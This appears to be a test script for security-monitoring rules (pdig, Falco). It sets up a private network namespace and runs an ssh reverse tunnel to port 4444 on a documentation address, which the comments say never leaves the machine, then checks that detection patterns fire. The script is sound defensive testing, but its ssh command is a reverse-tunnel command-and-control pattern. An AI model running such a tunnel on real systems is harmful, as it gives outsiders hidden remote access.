# Command and control over SSH: the ssh client connecting out to a
# non-standard port (4444), the start of a reverse tunnel. In a private
# network namespace, as attacks/outbound_port.sh: 198.51.100.1 (TEST-NET-2)
# is routed to the loopback interface, which drops what it gets for it, so
# ssh's non-blocking connect stays in progress (EINPROGRESS) until its
# one-second ConnectTimeout; no packet leaves the machine. No configuration
# file is read (-F /dev/null, known hosts /dev/null).
# needs: root netns ip ssh
# default: pdig outbound connection to an unusual port = 1 ~ connection=[0-9.]+:[0-9]+->198\.51\.100\.1:4444 .*process=ssh
# falco: Disallowed SSH Connection Non Standard Port = 1 ~ connection=[0-9.]+:[0-9]+->198\.51\.100\.1:4444 .*process=ssh
setup() {
	ip link set lo up &&
		ip addr add 203.0.113.1/32 dev lo &&
		ip route add 198.51.100.0/24 dev lo
}
run() {
	ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=1 \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-N -R 8022:localhost:22 -p 4444 tunnel@198.51.100.1 2>/dev/null
	true
}
